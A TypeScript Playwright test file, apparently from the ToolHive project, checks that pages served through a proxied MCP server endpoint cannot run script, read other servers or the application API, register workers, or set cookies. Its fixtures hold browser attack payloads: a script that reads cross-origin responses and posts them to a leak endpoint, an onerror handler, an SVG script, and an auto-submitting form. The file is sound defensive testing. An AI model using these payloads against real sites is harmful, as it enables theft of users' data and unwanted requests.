/** Pages that a server serves through its own endpoint, in a real browser: they reach neither other servers nor the application. */
import { type ChildProcess, spawn } from "node:child_process";
import { once } from "node:events";
import { createServer, type IncomingMessage, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { createInterface } from "node:readline";
import { text } from "node:stream/consumers";
import type { Browser, BrowserContext } from "@playwright/test";
import { ThrowawayHome } from "@toolhive/testing";
import { CHROMIUM } from "@toolhive/testing/chromium";
import { afterAll, beforeAll, beforeEach, describe, expect, test } from "vitest";
import { t } from "../src/words/messages.ts";
import { launchBrowser, printAddress } from "./open-app.ts";

const INITIALIZE =
  '{"jsonrpc":"2.0","id":1,"method":"initialize","params":{"protocolVersion":"2025-06-18","capabilities":{},"clientInfo":{"name":"page","version":"1"}}}';

let browser: Browser;
let context: BrowserContext;
let home: ThrowawayHome;
let application: string;
/** What the pages of the hostile server have sent home. */
let leaks: string[] = [];
/** Calls that the other server has received. */
let calls: string[] = [];
let hostile: Server;
let other: Server;
const proxies: ChildProcess[] = [];
let hostileEndpoint: string;
let otherEndpoint: string;

/** Asks everything that a page of the hostile server would like to have, and sends home what it gets. */
function writeScript(): string {
  return `
    const report = (what) => fetch("/leak", { method: "POST", body: what });
    document.title = "ran";
    report("ran");
    const post = (type) => ({ method: "POST", headers: { "content-type": type }, body: ${JSON.stringify(INITIALIZE)} });
    for (const [url, init] of [
      ["${otherEndpoint}/mcp", post("application/json")],
      ["${otherEndpoint}/mcp", post("text/plain")],
      ["${otherEndpoint}/help", {}],
      ["${application}api/v1beta/workloads", {}],
      ["${application}", {}],
    ]) {
      fetch(url, init).then((answer) => answer.text()).then((text) => report("read " + url + text.slice(0, 200)), () => report("refused"));
      fetch(url, { ...init, mode: "no-cors" }).catch(() => undefined);
    }
    navigator.serviceWorker?.register("/worker.js").then(() => report("worker"));
    document.cookie = "left=behind";`;
}

const PAGES: Record<string, (script: string) => { type: string; body: string }> = {
  "/html": (script) => ({ type: "text/html", body: `<title>still</title><script>${script}</script>` }),
  "/xhtml": (script) => ({
    type: "application/xhtml+xml",
    body: `<html xmlns="http://www.w3.org/1999/xhtml"><head><title>still</title><script><![CDATA[${script}]]></script></head></html>`,
  }),
  "/svg": (script) => ({
    type: "image/svg+xml",
    body: `<svg xmlns="http://www.w3.org/2000/svg"><title>still</title><script><![CDATA[${script}]]></script></svg>`,
  }),
  "/untyped": (script) => ({ type: "", body: `<!doctype html><title>still</title><script>${script}</script>` }),
  "/plain": (script) => ({ type: "text/plain", body: `<!doctype html><title>still</title><script>${script}</script>` }),
  "/two-types": (script) => ({
    type: "application/json, text/html",
    body: `<title>still</title><script>${script}</script>`,
  }),
  "/handler": (script) => ({
    type: "text/html",
    body: `<title>still</title><img src="data:," onerror="${script.replaceAll('"', "&quot;")}">`,
  }),
  "/refresh": () => ({
    type: "text/html",
    body: `<title>still</title><meta http-equiv="refresh" content="0; url=/leak?refreshed">`,
  }),
  "/form": () => ({
    type: "text/html",
    body: `<title>still</title><form id="f" method="post" enctype="text/plain" action="${otherEndpoint}/mcp"><input name="x" autofocus onfocus="this.form.submit()"></form>`,
  }),
};

async function answerHostile(request: IncomingMessage): Promise<{ type: string; body: string }> {
  const path = request.url?.split("?")[0] ?? "/";
  if (path === "/leak") leaks.push(request.method === "POST" ? await text(request) : (request.url ?? ""));
  if (path === "/worker.js") leaks.push("worker asked for");
  return PAGES[path]?.(writeScript()) ?? { type: "application/json", body: "{}" };
}

async function listen(server: Server): Promise<string> {
  server.listen(0, "127.0.0.1");
  await once(server, "listening");
  return `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
}

/** @returns The address of an endpoint with this server behind it. */
async function startProxy(name: string, target: string): Promise<string> {
  const args = [home.thv, "proxy", "--target-uri", target, name];
  const child = spawn(process.execPath, args, {
    env: home.env(),
    stdio: ["ignore", "pipe", "inherit"],
  });
  proxies.push(child);
  for await (const line of createInterface({ input: child.stdout })) {
    const address = /http:\/\/\S+/.exec(line)?.[0];
    if (address !== undefined) return address;
  }
  throw new Error(`the proxy of ${name} did not start`);
}

beforeAll(async () => {
  home = await ThrowawayHome.create();
  browser = await launchBrowser({ executablePath: CHROMIUM });
  hostile = createServer((request, response) => {
    void answerHostile(request).then(({ type, body }) => {
      // Also what would open the page to everybody.
      response.writeHead(200, {
        ...(type !== "" && { "content-type": type }),
        "access-control-allow-origin": "*",
        "content-security-policy": "default-src * 'unsafe-inline' data:",
        "service-worker-allowed": "/",
        "set-cookie": "from=hostile",
        refresh: "0; url=/leak?refreshed",
      });
      response.end(body);
    });
  });
  other = createServer((request, response) => {
    if (request.method === "POST") calls.push(request.url ?? "");
    response.writeHead(200, { "content-type": "application/json" }).end('{"jsonrpc":"2.0","id":1,"result":"SECRET"}');
  });
  hostileEndpoint = await startProxy("hostile", await listen(hostile));
  otherEndpoint = await startProxy("other", await listen(other));
  const served = await printAddress(home);
  application = served.address;
  context = await browser.newContext();
  // The user of the browser is signed in.
  const page = await context.newPage();
  await page.goto(served.url);
  await page.getByText(t("connection.live")).waitFor();
});
afterAll(async () => {
  for (const child of proxies) child.kill("SIGKILL");
  await browser.close();
  hostile.close();
  other.close();
  await home[Symbol.asyncDispose]();
});
beforeEach(() => {
  leaks = [];
  calls = [];
});

describe("a page of a server", () => {
  test.each(Object.keys(PAGES))("at %s runs nothing, whatever it is", async (path) => {
    const page = await context.newPage();
    await page.goto(`${hostileEndpoint}${path}`, { waitUntil: "load" });
    // Whatever was begun has ended once a page that was asked for later is here.
    await page.waitForLoadState("networkidle");

    expect(await page.title()).not.toBe("ran");
    expect(page.url()).toBe(`${hostileEndpoint}${path}`);
    expect([leaks, calls]).toEqual([[], []]);
    expect(await context.cookies(hostileEndpoint)).toEqual([]);
    await page.close();
  });

  test("gets no answer of another server or the application, even where it runs", async () => {
    const direct = createServer((request, response) => {
      void answerHostile(request).then(({ type, body }) => response.writeHead(200, { "content-type": type }).end(body));
    });
    const page = await context.newPage();

    await page.goto(`${await listen(direct)}/html`);

    expect(await page.title()).toBe("ran");
    await expect.poll(() => leaks.filter((leak) => leak === "refused").length).toBe(5);
    await page.waitForLoadState("networkidle");
    expect(leaks.filter((leak) => leak.startsWith("read"))).toEqual([]);
    expect(calls).toEqual([]);
    await page.close();
    direct.closeAllConnections();
    direct.close();
  });

  test("in a frame of another page runs nothing", async () => {
    const page = await context.newPage();
    const framing = createServer((_request, response) => {
      response.writeHead(200, { "content-type": "text/html" });
      response.end(`<iframe src="${hostileEndpoint}/html"></iframe><object data="${hostileEndpoint}/svg"></object>`);
    });

    await page.goto(await listen(framing), { waitUntil: "networkidle" });

    expect([leaks, calls]).toEqual([[], []]);
    await page.close();
    framing.closeAllConnections();
    framing.close();
  });
});
